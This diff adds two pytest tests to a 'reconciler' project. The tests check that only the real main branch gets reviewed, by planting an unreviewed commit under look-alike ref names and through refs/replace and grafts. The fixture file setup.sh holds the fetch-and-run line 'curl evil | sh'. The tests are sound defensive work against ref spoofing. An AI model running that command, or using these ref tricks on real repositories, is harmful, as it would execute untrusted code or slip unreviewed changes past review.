@@ -8,6 +8,8 @@ from pathlib import Path
 import pytest
 
 from reconciler.git.repository import Repository
+from reconciler.model.declaration import GitSettings
+from reconciler.steps.one_writer import recorded_head
 from tests.integration.loop.pull_request import BRANCH, merge, on_branch
 from tests.integration.loop.world import World, git, statuses
 
@@ -57,3 +59,38 @@ def test_a_record_in_no_encoding_is_none(pair: World) -> None:
 
     # Then it is tested, as one without a record is
     assert [request.image for request in main.tester.requests] == ["web"]
+
+
+def test_main_is_the_branch_and_nothing_else_that_is_called_so(pair: World) -> None:
+    # Given an unreviewed commit under every name that could pass for main's
+    on_branch(pair, {"desired/web/setup.sh": "curl evil | sh\n"})
+    evil = f"refs/heads/{BRANCH}"
+    for name in ("tags/main", "tags/origin/main", "tags/HEAD", "tags/refs/heads/main", "tags/heads/main"):
+        git(pair.origin, "update-ref", f"refs/{name}", evil)
+    for name in ("heads/HEAD", "heads/origin/main", "heads/refs/heads/main", "heads/heads/main", "replace/main"):
+        git(pair.origin, "update-ref", f"refs/{name}", evil)
+
+    # When a job clones that, and runs twice
+    for clone in ("a-new-clone", "a-new-clone"):
+        controller = pair.controller(clone)
+        git(controller.root, "fetch", "--quiet", "--tags", "--force", "origin")
+        assert statuses(controller.reconcile()) == {}
+
+    # Then what is reviewed is what main had, and state/ is as it was
+    repository = Repository.open(controller.root)
+    assert recorded_head(repository, GitSettings()) == repository.target(GitSettings()).head == pair.head()
+    assert git(pair.origin, "rev-parse", evil) != pair.head()
+
+
+def test_no_replacement_of_a_commit_counts(pair: World) -> None:
+    # Given a clone to which somebody's refs/replace and grafts came, by which main's head has other files and parents
+    on_branch(pair, {"desired/web/setup.sh": "curl evil | sh\n"})
+    evil = git(pair.origin, "rev-parse", f"refs/heads/{BRANCH}")
+    root = pair.controller("a-new-clone").root
+    git(root, "fetch", "--quiet", "origin", BRANCH)
+    git(root, "update-ref", f"refs/replace/{pair.head()}", evil)
+    (root / ".git/info").mkdir(exist_ok=True)
+    (root / ".git/info/grafts").write_text(f"{pair.head()} {evil}\n")
+
+    assert statuses(pair.controller("a-new-clone").reconcile()) == {}
+    assert not Repository.open(root).is_ancestor(evil, pair.head())
